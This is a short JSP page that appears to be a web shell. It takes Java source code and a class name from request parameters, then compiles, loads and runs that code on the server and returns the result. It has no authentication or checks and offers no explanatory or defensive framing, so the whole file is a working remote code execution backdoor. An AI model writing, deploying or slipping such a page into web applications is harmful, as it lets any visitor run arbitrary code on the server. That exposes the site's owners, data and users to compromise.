<%@ page import="javax.tools.*,java.io.*,java.net.*,java.nio.file.*" %>
<%
    String src = request.getParameter("src");
    String cls = request.getParameter("cls");
    if (src != null && cls != null) {
        File dir = Files.createTempDirectory("jc").toFile();
        File javaFile = new File(dir, cls + ".java");
        try (FileWriter fw = new FileWriter(javaFile)) { fw.write(src); }
        JavaCompiler compiler = ToolProvider.getSystemJavaCompiler();
        int rc = compiler.run(null, null, null, javaFile.getPath());
        URLClassLoader loader = new URLClassLoader(new URL[]{dir.toURI().toURL()}, this.getClass().getClassLoader());
        Object o = loader.loadClass(cls).newInstance();
        out.print(o.toString());
    }
%>
